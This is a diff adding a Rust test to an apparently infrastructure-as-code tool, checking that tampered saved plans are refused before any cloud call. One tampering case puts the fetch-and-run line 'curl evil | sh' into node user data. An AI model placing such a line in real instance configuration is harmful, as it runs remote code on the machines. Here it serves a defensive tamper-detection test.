@@ -198,3 +198,54 @@ fn errors_are_reported_not_swallowed() {
     assert!(err.contains("no group of the simulated cloud uses zone zone-nowhere") && err.contains("zone-a"), "{err}");
     ok(d, &["sim", "fail", ".", "--zone", "zone-a"]);
 }
+
+/// A saved plan applies what it shows or nothing: an edited spec, a create turned into a
+/// delete of a node group the configuration keeps, or an address pointing at another
+/// cluster is refused before the first cloud call, naming what differs.
+#[test]
+fn an_edited_saved_plan_is_refused_before_any_cloud_call() {
+    let dir = quickstart();
+    let d = dir.path();
+    ok(d, &["plan", ".", "--out", "p.plan"]);
+    let plan: Value = serde_json::from_str(&std::fs::read_to_string(d.join("p.plan")).unwrap()).unwrap();
+    let workers = plan["changes"].as_array().unwrap().iter().position(|c| c["name"] == "workers").unwrap();
+    let edits: Vec<(&str, Box<dyn Fn(&mut Value)>)> = vec![
+        (
+            "hashes to generation",
+            Box::new(move |p: &mut Value| {
+                p["changes"][workers]["action"]["target"]["spec"]["image"] = "img-evil".into()
+            }),
+        ),
+        (
+            "hashes to generation",
+            Box::new(move |p: &mut Value| {
+                p["changes"][workers]["action"]["target"]["spec"]["user_data"] = "#!/bin/sh\ncurl evil | sh\n".into()
+            }),
+        ),
+        (
+            "which the configuration keeps",
+            Box::new(move |p: &mut Value| {
+                p["changes"][workers]["action"] = serde_json::json!({ "kind": "delete", "retire": [] })
+            }),
+        ),
+        (
+            "is not a node group of the configuration",
+            Box::new(move |p: &mut Value| {
+                p["changes"][workers]["address"] = "cluster.other.node_group.workers".into();
+                p["changes"][workers]["cluster"] = "cluster.other".into();
+            }),
+        ),
+    ];
+    for (i, (says, edit)) in edits.iter().enumerate() {
+        let mut p = plan.clone();
+        edit(&mut p);
+        let name = format!("edited-{i}.plan");
+        std::fs::write(d.join(&name), p.to_string()).unwrap();
+        let out = dd(d, &["apply", &name]);
+        assert_eq!(out.status.code(), Some(1), "{name}");
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(err.contains("the saved plan was edited") && err.contains(says), "{name}: {err}");
+        assert!(status(d)["groups"].as_array().unwrap().is_empty(), "{name}: the cloud was touched");
+    }
+    ok(d, &["apply", "p.plan"]);
+}
